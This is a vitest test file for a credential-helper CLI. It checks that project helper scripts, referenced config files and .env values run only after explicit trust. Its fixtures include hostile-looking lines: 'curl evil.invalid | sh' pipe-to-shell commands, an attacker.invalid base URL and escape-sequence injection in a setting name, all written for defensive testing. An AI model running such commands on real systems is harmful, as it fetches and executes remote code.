import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { stripVTControlCharacters } from 'node:util';
import { describe, expect, it, vi } from 'vitest';
import { CLI, cli, cliHome, writeJson } from '../support/cli.js';
import { scratchDir } from '../support/fixtures.js';
import { isolateTests } from '../support/isolation.js';

// Issue 15 §4: trust covers what will actually run, and where. The built CLI in a temp HOME.

isolateTests();
vi.setConfig({ testTimeout: 90_000 });

const KEY = 'sk-ant-test-trust-project-0001';
const EVIL_KEY = 'sk-ant-test-trust-evil-0001';

function script(path: string, body: string): string {
  mkdirSync(dirname(path), { recursive: true });
  writeFileSync(path, `#!/bin/sh\n${body}\n`);
  chmodSync(path, 0o755);
  return path;
}

/** A project whose settings file says `apiKeyHelper: ./bin/key`, with a `src/` subfolder. */
function keyProject() {
  const { home, env } = cliHome();
  const project = join(scratchDir(), 'repo');
  const settings = writeJson(join(project, '.credhelper', 'settings.json'), { apiKeyHelper: './bin/key' });
  const key = script(join(project, 'bin', 'key'), `echo ${KEY}`);
  const sub = join(project, 'src');
  mkdirSync(sub, { recursive: true });
  return {
    home,
    env,
    project,
    settings,
    key,
    sub,
    trustFile: join(home, '.local', 'share', 'credhelper', 'trust.json'),
  };
}

describe('helpers from a project file run in the project root', () => {
  it('`./bin/key` works from a subfolder', () => {
    const { env, project, sub } = keyProject();
    expect(cli(['trust', '--yes'], { env, cwd: project }).code).toBe(0);
    const got = cli(['get', 'anthropic'], { env, cwd: sub });
    expect(got.stderr).toBe('');
    expect(got.stdout).toBe(`${KEY}\n`);
  });

  it("from vendor/evil/ the project's own bin/key runs, never vendor/evil/bin/key", () => {
    const { env, project } = keyProject();
    const evil = join(project, 'vendor', 'evil');
    const marker = join(evil, 'ran');
    script(join(evil, 'bin', 'key'), `touch ${marker}; echo ${EVIL_KEY}`);
    expect(cli(['trust', '--yes'], { env, cwd: project }).code).toBe(0);
    const got = cli(['get', 'anthropic'], { env, cwd: evil });
    expect(got.stdout).toBe(`${KEY}\n`);
    expect(existsSync(marker)).toBe(false);
  });

  it("the user's own helpers still run in the current folder", () => {
    const { home, env } = cliHome();
    writeJson(join(home, '.config', 'credhelper', 'settings.json'), { apiKeyHelper: './here-key' });
    const folder = scratchDir();
    script(join(folder, 'here-key'), `echo ${KEY}`);
    expect(cli(['get', 'anthropic'], { env, cwd: folder }).stdout).toBe(`${KEY}\n`);
  });
});

describe('trust covers the files the commands and variables point to', () => {
  it('a change to the trusted ./bin/key script asks for trust again, naming the script; it does not run', () => {
    const { env, project, key, sub } = keyProject();
    const trusted = cli(['trust', '--yes'], { env, cwd: sub });
    expect(trusted.code).toBe(0);
    expect(trusted.stdout).toMatch(/file bin\/key {2}sha256:[0-9a-f]{12} {2}\(used by apiKeyHelper\)/);
    const marker = join(project, 'ran');
    script(key, `touch ${marker}; echo ${EVIL_KEY}`);
    const refused = cli(['get', 'anthropic'], { env, cwd: sub });
    expect(refused.code).toBe(78);
    expect(refused.stderr).toContain('bin/key (used by apiKeyHelper) changed');
    expect(refused.stderr).toContain('credhelper trust');
    expect(existsSync(marker)).toBe(false);
    expect(cli(['trust', '--yes'], { env, cwd: sub }).code).toBe(0);
    expect(cli(['get', 'anthropic'], { env, cwd: sub }).stdout).toBe(`${EVIL_KEY}\n`);
  });

  it('a trusted script replaced by something that cannot be hashed (a FIFO) asks again; nothing runs', () => {
    const { env, key, sub } = keyProject();
    expect(cli(['trust', '--yes'], { env, cwd: sub }).code).toBe(0);
    rmSync(key);
    expect(spawnSync('mkfifo', [key]).status).toBe(0);
    const refused = cli(['get', 'anthropic'], { env, cwd: sub, timeoutMs: 10_000 });
    expect(refused.code).toBe(78);
    expect(refused.stderr).toContain('bin/key changed (it is no longer a regular file credhelper can read)');
  });

  it('a `.env/` folder (a Python virtualenv) is no .env: the project can still be trusted', () => {
    const { env, project, sub } = keyProject();
    mkdirSync(join(project, '.env', 'bin'), { recursive: true });
    const trusted = cli(['trust', '--yes'], { env, cwd: project });
    expect(trusted.code, trusted.stderr).toBe(0);
    expect(cli(['get', 'anthropic'], { env, cwd: sub }).stdout).toBe(`${KEY}\n`);
  });

  it('an absolute path inside the project in the command string is covered too', () => {
    const { env, project } = keyProject();
    const tool = script(join(project, 'tools', 'vend'), `echo ${KEY}`);
    writeJson(join(project, '.credhelper', 'settings.json'), { apiKeyHelper: `sh '${tool}' --quiet` });
    expect(cli(['trust', '--yes'], { env, cwd: project }).stdout).toContain('file tools/vend');
    expect(cli(['get', 'anthropic'], { env, cwd: project }).stdout).toBe(`${KEY}\n`);
    script(tool, `echo ${EVIL_KEY}`);
    const refused = cli(['get', 'anthropic'], { env, cwd: project });
    expect(refused.code).toBe(78);
    expect(refused.stderr).toContain('tools/vend (used by apiKeyHelper) changed');
  });

  it('a change to the file AWS_CONFIG_FILE points to asks again', () => {
    const { env } = cliHome({ ANTHROPIC_API_KEY: KEY });
    const project = join(scratchDir(), 'repo');
    writeJson(join(project, '.credhelper', 'settings.json'), { env: { AWS_CONFIG_FILE: 'aws/config' } });
    const config = join(project, 'aws', 'config');
    mkdirSync(dirname(config), { recursive: true });
    writeFileSync(config, '[default]\nregion = us-east-1\n');
    const trusted = cli(['trust', '--yes'], { env, cwd: project });
    expect(trusted.stdout).toContain('env.AWS_CONFIG_FILE (value not shown)');
    expect(trusted.stdout).toContain('file aws/config');
    expect(cli(['get', 'anthropic'], { env, cwd: project }).stdout).toBe(`${KEY}\n`);
    writeFileSync(config, '[default]\ncredential_process = sh -c "curl evil.invalid | sh"\n');
    const refused = cli(['get', 'anthropic'], { env, cwd: project });
    expect(refused.code).toBe(78);
    expect(refused.stderr).toContain('aws/config (used by env.AWS_CONFIG_FILE) changed');
  });

  it('an old record without file hashes stays valid when no file is pointed to, and asks again when one is', () => {
    const { env, project, settings, trustFile } = keyProject();
    const oldHash = (command: string) =>
      createHash('sha256')
        .update(JSON.stringify([{ setting: 'apiKeyHelper', command, file: settings }]))
        .digest('hex');
    const record = (command: string) => ({
      version: 1,
      projects: { [project]: { commandsHash: oldHash(command), trustedAt: '2026-01-01T00:00:00.000Z' } },
    });
    writeJson(trustFile, record('./bin/key'));
    const refused = cli(['get', 'anthropic'], { env, cwd: project });
    expect(refused.code).toBe(78);
    expect(refused.stderr).toContain('bin/key (used by apiKeyHelper) is not covered by the earlier trust');

    writeJson(settings, { apiKeyHelper: `echo ${KEY}` });
    writeJson(trustFile, record(`echo ${KEY}`));
    expect(cli(['get', 'anthropic'], { env, cwd: project }).stdout).toBe(`${KEY}\n`);
  });
});

describe("a project's .env takes effect only in a trusted project", () => {
  const OPENAI_REPO = 'sk-test-repo-openai-0001';
  const AZURE_REPO = 'test-repo-azure-key-0001';
  const OPENAI_USER = 'sk-test-user-openai-0001';
  const AZURE_USER = 'test-user-azure-key-0001';
  const ATTACKER = 'https://attacker.invalid/openai';

  function clone() {
    const { home, env } = cliHome();
    for (const [provider, key] of [
      ['openai', OPENAI_USER],
      ['azure-openai', AZURE_USER],
    ] as const) {
      expect(cli(['login', '--provider', provider, '--stdin'], { env, input: key }).code).toBe(0);
    }
    const project = join(scratchDir(), 'clone');
    mkdirSync(project, { recursive: true });
    const dotenv = join(project, '.env');
    writeFileSync(
      dotenv,
      `DATABASE_URL=postgres://x\nOPENAI_API_KEY=${OPENAI_REPO}\nAZURE_OPENAI_API_KEY=${AZURE_REPO}\nAZURE_OPENAI_BASE_URL=${ATTACKER}\n`,
    );
    return { home, env, project, dotenv };
  }
  const probe = ['exec', '--', 'sh', '-c', 'echo "child $OPENAI_API_KEY $AZURE_OPENAI_API_KEY $AZURE_OPENAI_BASE_URL"'];

  it('untrusted: `get openai` and `exec` refuse it, say why, and never show its values', () => {
    const { env, project, dotenv } = clone();
    const got = cli(['get', 'openai'], { env, cwd: project });
    expect(got.code).toBe(78);
    expect(got.stdout).toBe('');
    expect(got.stderr).toContain(`${dotenv} sets OPENAI_API_KEY, AZURE_OPENAI_API_KEY, AZURE_OPENAI_BASE_URL`);
    expect(got.stderr).toContain('is not trusted');
    expect(got.stderr).toContain('credhelper trust');
    const ran = cli(probe, { env, cwd: project });
    expect(ran.code).toBe(78);
    expect(ran.stdout).not.toContain('child');
    for (const output of [got, ran]) {
      expect(output.stdout + output.stderr).not.toMatch(/sk-test-repo|test-repo-azure|attacker\.invalid|sk-test-user/);
    }
    // Elsewhere, the user's stored keys are used as before.
    expect(cli(['get', 'openai'], { env, cwd: scratchDir() }).stdout).toBe(`${OPENAI_USER}\n`);
  });

  it('after `trust` they use it; a change to the .env asks again', () => {
    const { env, project, dotenv } = clone();
    const trusted = cli(['trust', '--yes'], { env, cwd: project });
    expect(trusted.code).toBe(0);
    expect(trusted.stdout).toContain(
      `.env OPENAI_API_KEY, AZURE_OPENAI_API_KEY, AZURE_OPENAI_BASE_URL (values not shown)    (${dotenv})`,
    );
    expect(trusted.stdout).not.toMatch(/sk-test-repo|test-repo-azure|attacker\.invalid|DATABASE_URL/);
    expect(cli(['get', 'openai'], { env, cwd: project }).stdout).toBe(`${OPENAI_REPO}\n`);
    expect(cli(probe, { env, cwd: project }).stdout).toBe(`child ${OPENAI_REPO} ${AZURE_REPO} ${ATTACKER}\n`);

    writeFileSync(dotenv, `OPENAI_API_KEY=${OPENAI_REPO}-changed\n`);
    const refused = cli(['get', 'openai'], { env, cwd: project });
    expect(refused.code).toBe(78);
    expect(refused.stderr).toContain('changed since you trusted it');
    expect(refused.stderr).not.toContain(OPENAI_REPO);
  });
});

describe('trust shows what it trusts as written, and asks', () => {
  it('a setting name with \\r\\x1b[2K is shown escaped, in trust and in the refusal', () => {
    const { env } = cliHome({ ANTHROPIC_API_KEY: KEY });
    const project = join(scratchDir(), 'repo');
    const name = 'HIDDEN\r\u001b[2KAWS_PROFILE';
    writeJson(join(project, '.credhelper', 'settings.json'), { env: { [name]: 'x' } });
    const refused = cli(['get', 'anthropic'], { env, cwd: project });
    expect(refused.code).toBe(78);
    expect(refused.stderr).toContain('env.HIDDEN\\r\\x1b[2KAWS_PROFILE');
    const trusted = cli(['trust', '--yes'], { env, cwd: project });
    expect(trusted.stdout).toContain('env.HIDDEN\\r\\x1b[2KAWS_PROFILE (value not shown)');
    for (const output of [refused, trusted]) {
      expect(output.stdout + output.stderr).not.toContain('\r');
      expect(output.stdout + output.stderr).not.toContain('\u001b');
    }
    const json = cli(['trust', '--yes', '--json'], { env, cwd: project });
    expect(json.stdout).not.toContain('\r');
    expect(json.stdout).not.toContain('\u001b');
    expect(JSON.parse(json.stdout).commands[0].setting).toBe(`env.${name}`);
  });

  it('a command is shown verbatim: $(…) and an inline key are not redacted away, newlines are escaped', () => {
    const { env } = cliHome();
    const project = join(scratchDir(), 'repo');
    const command = `echo sk-ant-test-$(curl -s https://evil.invalid/x | sh)\necho done`;
    writeJson(join(project, '.credhelper', 'settings.json'), { apiKeyHelper: command });
    const trusted = cli(['trust', '--yes'], { env, cwd: project });
    expect(trusted.stdout).toContain(
      'apiKeyHelper = echo sk-ant-test-$(curl -s https://evil.invalid/x | sh)\\necho done',
    );
    expect(JSON.parse(cli(['trust', '--yes', '--json'], { env, cwd: project }).stdout).commands[0].command).toBe(
      command,
    );
  });

  it('without a terminal and without --yes it refuses (64), lists what it would trust, records nothing', () => {
    const { env, project, trustFile } = keyProject();
    const refused = cli(['trust'], { env, cwd: project });
    expect(refused.code).toBe(64);
    expect(refused.stderr).toContain('--yes');
    expect(refused.stderr).toContain('apiKeyHelper = ./bin/key');
    expect(existsSync(trustFile)).toBe(false);
    expect(cli(['get', 'anthropic'], { env, cwd: project }).code).toBe(78);
  });

  async function onTerminal(env: Record<string, string>, cwd: string, answer: string) {
    const child = spawn(
      'script',
      ['-q', '-e', '-c', `stty cols 200 rows 40; "${process.execPath}" "${CLI}" trust`, '/dev/null'],
      { env: { ...env, TERM: 'xterm' }, cwd, stdio: ['pipe', 'pipe', 'pipe'] },
    );
    let screen = '';
    child.stdout.on('data', (chunk) => {
      screen += chunk;
    });
    for (let i = 0; i < 200 && !stripVTControlCharacters(screen).includes('Trust these?'); i++) {
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    expect(stripVTControlCharacters(screen)).toContain('apiKeyHelper = ./bin/key');
    child.stdin.write(answer);
    const code = await new Promise<number | null>((resolve) => child.on('exit', resolve));
    child.stdin.end();
    return { code, screen: stripVTControlCharacters(screen) };
  }

  it('on a terminal it asks: `n` trusts nothing, `y` trusts', async () => {
    const { env, project, trustFile } = keyProject();
    const declined = await onTerminal(env, project, 'n');
    expect(declined.code).toBe(1);
    expect(declined.screen).toContain('not trusted: nothing was recorded');
    expect(existsSync(trustFile)).toBe(false);
    expect(cli(['get', 'anthropic'], { env, cwd: project }).code).toBe(78);

    const accepted = await onTerminal(env, project, 'y');
    expect(accepted.code).toBe(0);
    expect(accepted.screen).toContain('trusted in');
    expect(Object.keys(JSON.parse(readFileSync(trustFile, 'utf8')).projects)).toHaveLength(1);
    expect(cli(['get', 'anthropic'], { env, cwd: project }).stdout).toBe(`${KEY}\n`);
  });
});
